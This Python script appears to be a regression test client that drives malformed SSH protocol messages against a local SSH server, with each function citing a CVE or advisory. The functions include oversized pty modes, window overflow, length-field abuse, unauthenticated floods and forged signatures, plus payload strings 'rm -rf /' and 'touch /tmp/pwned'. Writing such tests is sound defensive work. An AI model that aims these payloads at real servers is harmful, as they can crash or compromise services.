"""A client that signs in properly and then breaks the protocol: client.py PORT USER KEY ACT

Prints what became of it as one line of JSON. Built on paramiko's transport, which sends any message that it is given.
"""
import contextlib
import json
import socket
import sys
import time

import paramiko
from paramiko.message import Message

SERVICE_REQUEST, EXT_INFO, USERAUTH_REQUEST, INFO_RESPONSE = 5, 7, 50, 61
CHANNEL_OPEN, WINDOW_ADJUST, DATA, EXTENDED_DATA, EOF, CLOSE, REQUEST = 90, 93, 94, 95, 96, 97, 98
NEVER_OPENED = 4711


def message(kind, *fields):
    built = Message()
    built.add_byte(bytes([kind]))
    for field in fields:
        if isinstance(field, bool):
            built.add_boolean(field)
        elif isinstance(field, int):
            built.add_int(field)
        else:
            built.add_string(field)
    return built


def raw(kind, body):
    built = Message()
    built.add_byte(bytes([kind]))
    built.add_bytes(body)
    return built


def pty_modes(transport, channel):
    """More terminal modes than there are (GHSA-cqjc-rmpq-xprq)."""
    modes = b''.join(bytes([1 + n % 150]) + bytes(4) for n in range(6000)) + b'\0'
    transport._send_message(message(REQUEST, channel.remote_chanid, b'pty-req', False, b'xterm', 80, 24, 0, 0, modes))


def never_opened(transport, _channel):
    """Everything that a channel takes, on one that was never opened (GHSA-m65r-rprj-r5rg)."""
    for _ in range(50):
        transport._send_message(message(DATA, NEVER_OPENED, b'rm -rf /\n'))
        transport._send_message(message(EXTENDED_DATA, NEVER_OPENED, 1, b'x'))
        transport._send_message(message(REQUEST, NEVER_OPENED, b'exec', True, b'touch /tmp/pwned'))
        transport._send_message(message(REQUEST, NEVER_OPENED, b'window-change', False, 1, 1, 1, 1))
        transport._send_message(message(WINDOW_ADJUST, NEVER_OPENED, 1))
        transport._send_message(message(EOF, NEVER_OPENED))
        transport._send_message(message(CLOSE, NEVER_OPENED))


def window_overflow(transport, channel):
    """A window beyond 2^32 (CVE-2025-54804)."""
    for _ in range(8):
        transport._send_message(message(WINDOW_ADJUST, channel.remote_chanid, 0xffffffff))


def no_packets(transport, channel):
    """A channel whose packets may hold nothing (GHSA-fw5c-8223-6h42)."""
    transport._send_message(message(CHANNEL_OPEN, b'session', 99, 0, 0))
    transport._send_message(message(CHANNEL_OPEN, b'session', 98, 1 << 20, 0))
    time.sleep(0.5)
    for number in range(channel.remote_chanid, channel.remote_chanid + 4):
        transport._send_message(message(REQUEST, number, b'exec', True, b'head -c 100000 /dev/zero'))


def extensions(transport, _channel):
    """The same word again and again about extensions (GHSA-4p9f-7p9m-5vfg)."""
    for n in range(400):
        pairs = [(f'ext-{n}-{m}@example.test'.encode(), b'x' * 200) for m in range(100)]
        transport._send_message(message(EXT_INFO, len(pairs), *[part for pair in pairs for part in pair]))


def long_strings(transport, _channel):
    """Fields that say they are longer than their message (CVE-2026-48110)."""
    for kind in [CHANNEL_OPEN, REQUEST, DATA, 80, USERAUTH_REQUEST]:
        transport._send_message(raw(kind, b'\0\0\0\0' + b'\xff\xff\xff\xff' * 4))


ACTS = {act.__name__.replace('_', '-'): act for act in
        [pty_modes, never_opened, window_overflow, no_packets, extensions, long_strings]}


def responses(transport, user):
    """More answers to questions than a message can hold, by somebody who has proven nothing (CVE-2026-42189)."""
    transport._send_message(message(SERVICE_REQUEST, b'ssh-userauth'))
    for count in [0x10000000, 0xffffffff]:
        transport._send_message(message(USERAUTH_REQUEST, user.encode(), b'ssh-connection', b'keyboard-interactive', b'', b''))
        transport._send_message(message(INFO_RESPONSE, count))


def forged(transport, user):
    """Somebody's public key, and a signature that is not its own, until the gate hangs up."""
    transport._send_message(message(SERVICE_REQUEST, b'ssh-userauth'))
    key = paramiko.Ed25519Key.from_private_key_file(sys.argv[3]).asbytes()
    signature = message(0, b'ssh-ed25519', bytes(64)).asbytes()[1:]
    for _ in range(12):
        transport._send_message(message(USERAUTH_REQUEST, user.encode(), b'ssh-connection', b'publickey', True,
                                        b'ssh-ed25519', key, signature))
    until = time.time() + 60
    while transport.is_active() and time.time() < until:
        time.sleep(0.05)
    assert not transport.is_active(), 'the gate goes on listening'


def services(transport, _user):
    """The service of signing in again and again, by somebody who never does."""
    for _ in range(400):
        transport._send_message(message(SERVICE_REQUEST, b'ssh-userauth'))


def new_keys(transport, _user):
    """New keys again and again, by somebody who has proven nothing (CVE-2002-20001)."""
    for _ in range(20):
        transport.renegotiate_keys()


def unreadable_keys(transport, user):
    """Keys that are none, or not of the kind that they are said to be. A next one may be good: nobody hangs up."""
    transport._send_message(message(SERVICE_REQUEST, b'ssh-userauth'))
    for kind, key in [(b'ssh-ed25519', b''), (b'ssh-ed25519', b'\0\0\0\x0bssh-ed25519\0\0\0\x05short'),
                      (b'ssh-ed25519-cert-v01@openssh.com', b'\xff' * 40), (b'no-such-kind', b'\0\0\0\x01x')]:
        transport._send_message(message(USERAUTH_REQUEST, user.encode(), b'ssh-connection', b'publickey', False, kind, key))


BEFORE = {'responses': responses, 'services': services, 'new-keys': new_keys, 'unreadable-keys': unreadable_keys}


def main():
    port, user, key, act = sys.argv[1:]
    transport = paramiko.Transport(socket.create_connection(('127.0.0.1', int(port))))
    transport.start_client(timeout=30)
    if act in BEFORE:
        with contextlib.suppress(OSError, EOFError, paramiko.SSHException):
            BEFORE[act](transport, user)
        time.sleep(2)
    elif act == 'forged':
        with contextlib.suppress(OSError, EOFError, paramiko.SSHException):
            forged(transport, user)
    else:
        transport.auth_publickey(user, paramiko.Ed25519Key.from_private_key_file(key))
        channel = transport.open_session(timeout=30)
        # The gate may hang up in the middle of it.
        with contextlib.suppress(OSError, EOFError, paramiko.SSHException):
            ACTS[act](transport, channel)
        time.sleep(1)
    print(json.dumps({'act': act, 'connected': transport.is_active()}))
    transport.close()


main()
